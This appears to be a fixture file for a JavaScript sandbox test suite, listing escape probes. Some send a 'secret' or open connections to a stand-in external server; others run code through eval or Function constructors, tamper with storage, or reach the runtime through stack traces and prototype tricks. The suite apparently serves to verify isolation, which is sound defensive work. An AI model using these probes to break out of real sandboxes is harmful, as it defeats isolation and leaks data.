The ways out, each the body of an async function. It throws or returns nothing if it is stopped, and returns what it
got hold of if not. `need` finds a global by every way there is; HERE and ELSEWHERE are the two servers.
--- fetch
return need("fetch")(`${ELSEWHERE}/fetch`, { mode: "no-cors" });
--- fetch of our own server
return need("fetch")(`${HERE}stolen?fetch`);
--- XMLHttpRequest
const request = new (need("XMLHttpRequest"))(); request.open("GET", `${ELSEWHERE}/xhr`, false); request.send(); return request;
--- WebSocket
return new (need("WebSocket"))(`${ELSEWHERE.replace("http", "ws")}/socket`);
--- EventSource
return new (need("EventSource"))(`${ELSEWHERE}/events`);
--- WebTransport
return new (need("WebTransport"))(`${ELSEWHERE.replace("http", "https")}/transport`);
--- sendBeacon
return need("navigator").sendBeacon(`${ELSEWHERE}/beacon`, "secret");
--- importScripts
need("importScripts")(`${ELSEWHERE}/script.js`); return "loaded";
--- FontFace
return new (need("FontFace"))("Thief", `url(${ELSEWHERE}/font.woff2)`).load();
--- Worker
return new (need("Worker"))(`${ELSEWHERE}/worker.js`);
--- Worker from a blob
const { createObjectURL } = need("URL"); return new (need("Worker"))(createObjectURL(new (need("Blob"))(["1"])));
--- SharedWorker
return new (need("SharedWorker"))(`${ELSEWHERE}/shared.js`);
--- ServiceWorker
return need("navigator").serviceWorker.register(`${ELSEWHERE}/service.js`);
--- RTCPeerConnection
return new (need("RTCPeerConnection"))({ iceServers: [{ urls: ELSEWHERE.replace("http://", "stun:") }] });
--- Image
const image = new (need("Image"))(); image.src = `${ELSEWHERE}/image`; return image;
--- a form
const form = need("document").createElement("form"); form.action = `${ELSEWHERE}/form`; form.submit(); return form;
--- location
need("location").href = `${ELSEWHERE}/location`; return "gone";
--- open
return need("open")(`${ELSEWHERE}/open`);
--- parent and top
return need("parent") ?? need("top");
--- document
return need("document").title;
--- self and window
return need("self") ?? need("window");
--- BroadcastChannel
const channel = new (need("BroadcastChannel"))("seamwright"); channel.postMessage("hello"); return channel;
--- caches
return need("caches").open("thief");
--- indexedDB
return need("indexedDB").open("thief");
--- localStorage
need("localStorage").thief = "was here"; return "stored";
--- sessionStorage
need("sessionStorage").thief = "was here"; return "stored";
--- cookieStore
return need("cookieStore").set("thief", "was here");
--- navigator.storage
return need("navigator").storage.getDirectory();
--- navigator.locks
return need("navigator").locks.query();
--- Notification
return new (need("Notification"))("thief");
--- postMessage
need("postMessage")({ type: "seamwright-frame" }); return "sent";
--- onmessage
need("onmessage"); return "found";
--- a handler that the global object would call
const before = Object.getOwnPropertyNames(globalThis).length;
for (const name of ["onmessage", "onerror", "onunhandledrejection"]) {
  let object = globalThis;
  while (object !== null) {
    if (typeof Object.getOwnPropertyDescriptor(object, name)?.set === "function") return `a setter of ${name}`;
    object = Object.getPrototypeOf(object);
  }
}
if (Object.getOwnPropertyNames(globalThis).length !== before) return "more names than before";
--- addEventListener
need("addEventListener")("message", () => {}); return "listening";
--- addEventListener by our own EventTarget
EventTarget.prototype.addEventListener.call(globalThis, "message", () => {}); return "listening";
--- MessageChannel
const { port1, port2 } = new (need("MessageChannel"))(); return [port1, port2];
--- MessagePort.prototype
return need("MessagePort").prototype.postMessage;
--- structuredClone that transfers
return structuredClone(new ArrayBuffer(8), { transfer: [globalThis] });
--- WebAssembly
return new (need("WebAssembly").Module)(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
--- SharedArrayBuffer and Atomics
return new (need("SharedArrayBuffer"))(8);
--- eval
return (0, need("eval"))("1 + 1");
--- Function
const text = Function; return text("return 1 + 1")();
--- new Function by a constructor
return new ([].map.constructor)("return 1 + 1")();
--- the constructor of functions that are async
return await (async () => {}).constructor("return 1 + 1")();
--- the constructor of generators
return [...(function* () {}).constructor("yield 1 + 1")()];
--- the constructor of generators that are async
return (await (async function* () {}).constructor("yield 1 + 1")().next()).value;
--- Reflect.construct of Function
return Reflect.construct(Function, ["return 1 + 1"], class extends Function {})();
--- a function from the constructor of a bound one
return (() => {}).bind().constructor.constructor("return 1 + 1")();
--- setTimeout of a text
globalThis.marked = undefined; delete globalThis.marked;
setTimeout("globalThis.marked = 1", 0); await new Promise((later) => setTimeout(later, 5));
if (globalThis.marked === 1) return "a text has run";
--- setInterval of a text
const id = setInterval("globalThis.marked = 1", 1); await new Promise((later) => setTimeout(later, 5)); clearInterval(id);
if (globalThis.marked === 1) return "a text has run";
--- Error.prepareStackTrace
const own = Error; let frames = null;
try { Object.defineProperty(own, "prepareStackTrace", { configurable: true, value: (_, sites) => (frames = sites) }); new own("x").stack; } finally { delete own.prepareStackTrace; }
const there = frames?.map((site) => site.getFunction?.() ?? site.getThis?.()).find((found) => found != null);
if (there !== undefined) return `a function of the runtime: ${there}`;
--- the caller of a function
const got = []; const hop = () => { for (const name of ["caller", "callee", "arguments"]) try { got.push(hop[name]); } catch {} }; hop();
const got2 = got.filter((found) => found != null); if (got2.length > 0) return got2;
--- the stack of an error
const { stack } = new Error("x"); if (typeof stack === "string" && /blob:|at \w|@/.test(stack)) return stack;
--- what the global object inherits
let found = []; let object = Object.getPrototypeOf(globalThis);
while (object !== null && object !== Object.prototype) {
  // Constants that cannot be removed are only numbers.
  for (const key of Reflect.ownKeys(object)) if (typeof key === "string" && !["undefined", "number"].includes(typeof Reflect.get(object, key, globalThis))) found.push(key);
  object = Object.getPrototypeOf(object);
}
if (found.length > 0) return found;
--- names beyond the list
const strange = Object.getOwnPropertyNames(globalThis).filter((name) => globalThis[name] !== undefined && !ALLOWED.includes(name));
if (strange.length > 0) return strange;
--- symbols of the global object
for (const symbol of Object.getOwnPropertySymbols(globalThis)) {
  // What is added here by 'expect.extend' is taken back before the next check: see forged.rs.
  if (symbol.description === "asymmetric-matchers-object") continue;
  const object = globalThis[symbol];
  for (const key of Reflect.ownKeys(object ?? {})) {
    try { const old = object[key]; object[key] = () => ({ pass: true }); if (object[key] !== old) { object[key] = old; return `${String(symbol)}.${String(key)} can be replaced`; } } catch {}
  }
}
--- host objects by URL
return hostly(new URL("http://a.example"), "createObjectURL");
--- host objects by AbortController
return hostly(new AbortController(), "addEventListener") ?? hostly(AbortSignal.timeout(5), "postMessage");
--- host objects by TextDecoder
return hostly(new TextDecoder(), "fetch") ?? hostly(new TextEncoder(), "fetch");
--- host objects by Event
return hostly(new Event("x"), "source") ?? hostly(new EventTarget(), "postMessage");
--- host objects by DOMException
return hostly(new DOMException("x"), "fetch");
--- host objects by console, crypto and performance
return hostly(console, "memory") ?? hostly(crypto, "subtle") ?? hostly(performance, "memory");
--- real time
const times = new Set(); for (let n = 0; n < 200000; n += 1) if (n % 1000 === 0) times.add(performance.now()).add(Date.now());
if (times.size > 2) return "the clock moves by itself";
--- names of the instrumentation
const names = ["$seamwright", "$sw", "$swExports", "$swRequired", "seamwright"].filter((name) => name in globalThis);
if (names.length > 0) return names;
--- the port of the runtime's own turns
let port;
Object.defineProperty(Object.prototype, "unref", { configurable: true, get() { port ??= this; return undefined; } });
try { await new Promise((later) => setTimeout(later, 1)); } finally { delete Object.prototype.unref; }
if (port !== undefined) return port;
